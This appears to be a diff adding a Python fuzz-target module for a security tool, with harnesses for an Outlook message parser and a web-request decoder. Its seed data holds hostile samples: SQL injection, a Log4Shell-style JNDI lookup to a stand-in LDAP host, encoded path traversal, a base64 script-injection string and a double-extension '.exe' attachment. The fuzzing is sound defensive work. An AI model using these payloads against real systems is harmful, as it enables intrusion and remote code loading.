@@ -1,0 +1,173 @@
+"""What ``tools.fuzz`` fuzzes beside the sources: code that reads hostile bytes behind a door of its own, with what must hold of it."""
+
+from __future__ import annotations
+
+import io
+from collections import Counter
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+
+import numpy as np
+import polars as pl
+from tests.sources.mail.ole import Tree, compound_file, properties
+
+from vedette.abc import Source
+from vedette.errors import SourceError
+from vedette.features import web_decode
+from vedette.features.web_request import ASKED, _parts, _with_hidden
+from vedette.features.web_tokens import BITS, runs, runs_of
+from vedette.scoring.ngrams import corpus
+from vedette.sources.mail import Mail
+from vedette.sources.mail.outlook import MAGIC
+from vedette.testing.laws.source import ShortReads, read_all
+
+LIMIT_BYTES = 1 << 14
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """Something that is fuzzed.
+
+    Attributes:
+        seeds: inputs to begin with.
+        check: raises where an input shows a bug.
+    """
+
+    seeds: Sequence[bytes]
+    check: Callable[[bytes], None]
+
+
+def of_source(source: type[Source]) -> Target:
+    """Return a source as a target.
+
+    On any bytes it raises nothing but SourceError, its rows fit their classes (EventBatch checks that), and it accounts for the same
+    records and rows however the stream splits.
+    """
+    return Target([source.example().data], lambda data: _reads_alike(source, data[:LIMIT_BYTES]))
+
+
+def _reads_alike(source: type[Source], data: bytes) -> None:
+    whole = _outcome(source, io.BytesIO(data))
+    split = _outcome(source, ShortReads(data, len(data)))
+    if whole != split:
+        raise AssertionError(f"the stream's splits change the outcome: {whole} {split}")
+
+
+def _outcome(source: type[Source], stream: io.RawIOBase | io.BytesIO) -> object:
+    """Return rows by class and records, or the error's words."""
+    try:
+        batches = read_all(source, stream)
+    except SourceError as error:
+        return error.message
+    rows: Counter[str] = Counter()
+    for batch in batches:
+        rows[batch.kind.name] += len(batch) if batch.kind else batch.records
+    return rows, sum(batch.records for batch in batches)
+
+
+# --------------------------------------------------------------------------------------------------------------- outlook
+
+_CUT = b"\n--\n"
+"""Between the streams of a message in an input that is no container."""
+_STREAM_BYTES = 4_095
+"""Longer streams would not fit the small container that is made."""
+_HEADERS = "From: a <a@b.example>\r\nSubject: s\r\nDate: Thu, 5 Mar 2026 09:01:10 +0100\r\nContent-Type: text/html\r\n\tx: y\r\n"
+_STREAMS: dict[str, bytes] = {
+    "__properties_version1.0": properties({0x3FDE0003: 1252, 0x3FFD0003: 65001, 0x0E060040: 134_170_812 * 10**9}, 32),
+    "__substg1.0_007D001F": _HEADERS.encode("utf-16-le"),
+    "__substg1.0_0037001F": "subject".encode("utf-16-le"),
+    "__substg1.0_1000001F": "text https://b.example/".encode("utf-16-le"),
+    "__substg1.0_10130102": b"<p>text <a href='https://b.example/'>here</a><i style='display:none'>no</i>",
+    "__substg1.0_0C1A001E": b"name",
+    "__substg1.0_5D01001F": "a@b.example".encode("utf-16-le"),
+    "__recip_version1.0_#00000000/__properties_version1.0": properties({0x0C150003: 2}, 8),
+    "__recip_version1.0_#00000000/__substg1.0_39FE001F": "c@b.example".encode("utf-16-le"),
+    "__attach_version1.0_#00000000/__substg1.0_3707001F": "bill.pdf.exe".encode("utf-16-le"),
+    "__attach_version1.0_#00000000/__substg1.0_370E001F": "application/zip".encode("utf-16-le"),
+    "__attach_version1.0_#00000000/__substg1.0_37010102": b"PK\x03\x04" + bytes(60),
+}
+
+
+def outlook_file(data: bytes) -> bytes:
+    """Return a message of Outlook's whose streams, one after the other, are the pieces of ``data``; a container stays as it is."""
+    if data.startswith(MAGIC):
+        return data
+    tree: Tree = {}
+    for path, stream in zip(_STREAMS, data.split(_CUT), strict=False):
+        folder, _, name = path.rpartition("/")
+        held = tree.setdefault(folder, {}) if folder else tree
+        assert isinstance(held, dict)  # noqa: S101 - for the reader of types
+        held[name] = stream[:_STREAM_BYTES]
+    return compound_file(tree)
+
+
+def _outlook() -> Target:
+    pieces = _CUT.join(_STREAMS.values())
+    seeds = [pieces, outlook_file(pieces)]
+    return Target(seeds, lambda data: _reads_alike(Mail, outlook_file(data[:LIMIT_BYTES])[: 8 * LIMIT_BYTES]))
+
+
+# ----------------------------------------------------------------------------------------------------------- web requests
+
+_REQUESTS = (
+    "/a/b.php\t?id=1%27%20union%20select%201,2--\tMozilla/5.0 (X11)\thttps://b.example/",
+    "/%252e%252e/%c0%af%u0041%uff1cscript\t?q=${${lower:j}ndi:ldap://b.example/a}&n=&#x3c;b&eacute;\tsqlmap/1.8\t",
+    "/x\t?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&t=caf%C3%A9+\\u003c\\x3e/**/'a'||'b'\t\t",
+)
+_ROWS = 16
+
+
+def requests_of(data: bytes) -> pl.DataFrame:
+    """Return a request a line, its parts (``ASKED``) parted by tabs; an absent part is null."""
+    lines = data.decode("utf-8", "replace").split("\n")[:_ROWS]
+    rows = [(line.split("\t", len(ASKED) - 1) + [None] * len(ASKED))[: len(ASKED)] for line in lines]
+    return pl.DataFrame(rows, schema=dict.fromkeys(ASKED, pl.String), orient="row")
+
+
+def _web(data: bytes) -> None:
+    """Decode requests together and one by itself: nothing of one reaches another, marks are not forged, the text does not grow."""
+    asked = requests_of(data[:LIMIT_BYTES])
+    one = len(data) % max(asked.height, 1)
+    together, alone = (_read(rows) for rows in (asked, asked.slice(one, 1)))
+    if not together.slice(one, 1).equals(alone):
+        raise AssertionError(f"a request is read otherwise among others: {together.slice(one, 1)} {alone}")
+    if together.height != asked.height or not together["layers"].is_between(0, web_decode.LAYERS).all():
+        raise AssertionError(f"rows or layers: {together}")
+    if together["text"].str.contains(r"[\x00\x02-\x08\x0e-\x19]").any():
+        raise AssertionError("a control character is left")
+    marks = {
+        mark: together["text"].str.count_matches(mark, literal=True)
+        for mark in (web_decode.PATH, web_decode.AGENT, web_decode.REFERRER)
+    }
+    if (marks[web_decode.PATH] != asked[ASKED[0]].is_not_null()).any() or any((n > 1).any() for n in marks.values()):
+        raise AssertionError(f"a mark is forged: {together}")
+    sent = asked.select(pl.sum_horizontal(pl.all().fill_null("").str.len_bytes())).to_series()
+    if (together["text"].str.len_bytes() > 8 * sent + 64).any():
+        raise AssertionError("the text grows")
+    _tokens(together["text"], one)
+
+
+def _read(asked: pl.DataFrame) -> pl.DataFrame:
+    """Return requests decoded, as ``WebRequest`` does it; its facts are regular expressions of Polars, and slow to compile."""
+    return web_decode.decode(_with_hidden(asked.select(_parts()).to_series()))
+
+
+def _tokens(texts: pl.Series, one: int) -> None:
+    whole, prose = runs_of(texts)
+    size = len(corpus(texts).data)
+    if len(whole.starts) != len(texts) + 1 or whole.starts[-1] != len(whole.slot) or (np.diff(whole.starts) < 0).any():
+        raise AssertionError("runs do not belong to texts")
+    if (whole.slot >= 1 << BITS).any() or (whole.begin < 0).any() or (whole.begin + whole.length > size).any():
+        raise AssertionError("a run lies outside")
+    pieces, words = runs(corpus(texts.slice(one, 1)))
+    if words[0] != prose[one] or set(pieces.slot) != set(whole.slot[whole.starts[one] : whole.starts[one + 1]]):
+        raise AssertionError(f"a text has other runs among others: {texts[one]!r}")
+
+
+def _web_decode() -> Target:
+    seeds = [*(r.encode() for r in _REQUESTS), "\n".join(_REQUESTS).encode()]
+    return Target(seeds, _web)
+
+
+TARGETS: dict[str, Callable[[], Target]] = {"outlook": _outlook, "web_decode": _web_decode}
+"""By name; sources are targets under their own names."""
